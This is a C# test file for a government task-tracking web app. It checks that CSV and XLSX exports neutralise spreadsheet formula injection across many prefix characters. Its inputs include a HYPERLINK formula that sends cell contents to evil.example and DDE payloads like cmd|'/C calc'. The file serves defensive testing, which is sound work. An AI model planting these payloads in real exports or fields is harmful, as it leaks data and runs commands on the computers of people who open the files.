using System.Text.Json;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using GovOpenFlow.Web.Tests.Places;
using Microsoft.VisualBasic.FileIO;

namespace GovOpenFlow.Web.Tests.Exports;

/// <summary>What people write never becomes a formula in a spreadsheet, in no column of no export. Read back by readers that are not ours.</summary>
public sealed class FormulaTests
{
    // What spreadsheets take for the beginning of a formula, and what tries to get there by the way.
    private static readonly string[] Beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''=", "\"=", "\",=", ",=", ";=", "\n\"=", "\r\n,="];

    private const string Formula = "HYPERLINK(\"https://evil.example/?\"&A1,\"点\")|' /C calc'!A0";

    [Fact]
    public async Task No_cell_of_the_ledger_is_a_formula()
    {
        await using var place = Place.Open();
        await place.StartAsync(Plan());
        var expected = new List<string>();
        foreach (var assignment in (await place.GetAsync("/api/assignments?limit=200")).IsOk().Json.GetProperty("assignments").EnumerateArray().ToList())
        {
            var at = expected.Count;
            if (at == Beginnings.Length)
            {
                break;
            }

            var api = "/api/assignments/" + assignment.GetProperty("id").GetString();
            var text = Beginnings[at] + Formula;
            expected.Add(text);
            (await place.PostAsync(api + "/reassign", JsonSerializer.Serialize(new { unit = Beginnings[at] + "cmd|'/C calc'!A" + at, reason = text }))).IsOk();
            (await place.PostAsync(api + "/report", JsonSerializer.Serialize(new { text, links = new[] { "http://cmd.example/?,=1+1;=2\"=3" } }))).IsOk();
        }

        Assert.Equal(Beginnings.Length, expected.Count);
        var rows = Csv(await BytesAsync(place, "/api/assignments.csv"));
        Assert.All(rows, row => Assert.Equal(16, row.Length));
        Assert.All(rows.SelectMany(row => row), IsNoFormula);
        Assert.Empty(expected.Except(rows.Select(row => Unguarded(row[12]))));
        Assert.Empty(Beginnings.Where(beginning => beginning[0] is '=' or '+' or '＠').Except(rows.Select(row => Unguarded(row[5])[..1])));

        var cells = Sheet(await BytesAsync(place, "/api/assignments.xlsx"));
        Assert.Empty(expected.Select(Breaks).Except(cells.Select(Breaks)));
        Assert.Contains(cells, cell => cell.StartsWith("=1+1公开", StringComparison.Ordinal));
    }

    [Fact]
    public async Task No_cell_of_the_directory_is_a_formula()
    {
        await using var place = Place.Open();
        var names = Beginnings.Select((beginning, at) => (beginning + "cmd|'/C calc'!A" + at).ReplaceLineEndings(" ").Replace('\t', ' ').Trim()).ToList();
        (await place.PutAsync("/api/units", JsonSerializer.Serialize(new
        {
            coordinator = new { name = "=1+1", email = "zwgk@example.gov.cn", phone = (string?)null },
            units = names.Select((name, at) => new
            {
                name,
                aliases = new[] { "=又名" + at, "@又名" + at },
                liaison = new { name = Beginnings[at].ReplaceLineEndings(" ").Trim() + "SUM(A1)", email = "=a" + at + "@example.gov.cn", phone = "+8613800000000" },
            }),
            groups = new[] { new { name = "=各单位", members = new[] { names[0], names[3] } } },
        }), ("If-Match", "\"0\""))).IsOk();

        var rows = Csv(await BytesAsync(place, "/api/units/sheet"));
        Assert.All(rows.SelectMany(row => row), IsNoFormula);
        Assert.Empty(names.Except(rows.Select(row => Unguarded(row[0])).Concat(rows.Select(row => row[0]))));
        Sheet(await BytesAsync(place, "/api/units/sheet?format=xlsx"));

        // And back in again nothing has changed.
        foreach (var format in new[] { "csv", "xlsx" })
        {
            var sheet = await BytesAsync(place, "/api/units/sheet?format=" + format);
            var changes = (await Place.SendAsync(place.Client, HttpMethod.Post, "/api/units/sheet", new ByteArrayContent(sheet), ("Idempotency-Key", format))).IsOk();
            Assert.Equal(0, changes.Json.GetProperty("added").GetArrayLength() + changes.Json.GetProperty("changed").GetArrayLength());
        }
    }

    private static string Plan() => "临江区2026年政务公开工作要点责任分解表\n主要工作任务 | 任务内容 | 完成时限 | 责任单位 |\n" + string.Concat(
        Beginnings.Select((_, at) => $"{(at == 0 ? "一、=1+1重点领域 | （一）+规划 | " : "")}{at + 1}.{"=+-@"[at % 4]}1+1公开第{at}类信息。 | 全年 | 区{"甲乙丙丁戊己庚辛壬癸子丑寅卯辰巳午未申酉"[at]}局 |\n"));

    private static async Task<byte[]> BytesAsync(Place place, string path)
    {
        using var response = await place.Client.GetAsync(path);
        response.EnsureSuccessStatusCode();
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        return await response.Content.ReadAsByteArrayAsync();
    }

    // The framework's own reader: it knows nothing of ours, nor of the library that wrote.
    private static List<string[]> Csv(byte[] bytes)
    {
        using var reader = new TextFieldParser(new MemoryStream(bytes)) { TextFieldType = FieldType.Delimited, Delimiters = [","], HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        var rows = new List<string[]>();
        while (reader.ReadFields() is { } row)
        {
            rows.Add(row);
        }

        return rows;
    }

    /// <summary>All cells, each of which is text and none a formula, of a workbook that Office finds valid and that reaches nowhere else.</summary>
    private static List<string> Sheet(byte[] bytes)
    {
        using var stream = new MemoryStream(bytes);
        using var book = SpreadsheetDocument.Open(stream, isEditable: false);
        Assert.Equal("", string.Join('\n', new OpenXmlValidator(DocumentFormat.OpenXml.FileFormatVersions.Office2019).Validate(book).Select(fault => $"{fault.Path?.XPath}: {fault.Description}")));
        var sheet = Assert.Single(book.WorkbookPart!.WorksheetParts).Worksheet!;
        Assert.Empty(sheet.Descendants<CellFormula>());
        Assert.Empty(book.WorkbookPart.ExternalWorkbookParts);
        Assert.Empty(book.WorkbookPart.WorksheetParts.SelectMany(part => part.ExternalRelationships));
        var cells = sheet.Descendants<Cell>().ToList();
        Assert.All(cells, cell => Assert.Contains(cell.DataType!.Value, new[] { CellValues.InlineString, CellValues.SharedString, CellValues.String }));
        var shared = book.WorkbookPart.SharedStringTablePart?.SharedStringTable?.Elements<SharedStringItem>().Select(item => item.InnerText).ToList();
        return [.. cells.Select(cell => cell.DataType!.Value == CellValues.SharedString ? shared![int.Parse(cell.InnerText, System.Globalization.CultureInfo.InvariantCulture)] : cell.InnerText)];
    }

    private static void IsNoFormula(string cell) => Assert.False(cell.Length > 0 && "=+-@\t\r\n＝＋－＠".Contains(cell[0], StringComparison.Ordinal), cell);

    private static string Unguarded(string cell) => cell.StartsWith('\'') ? cell[1..] : cell;

    // XML has one end of line.
    private static string Breaks(string text) => text.ReplaceLineEndings("\n");
}
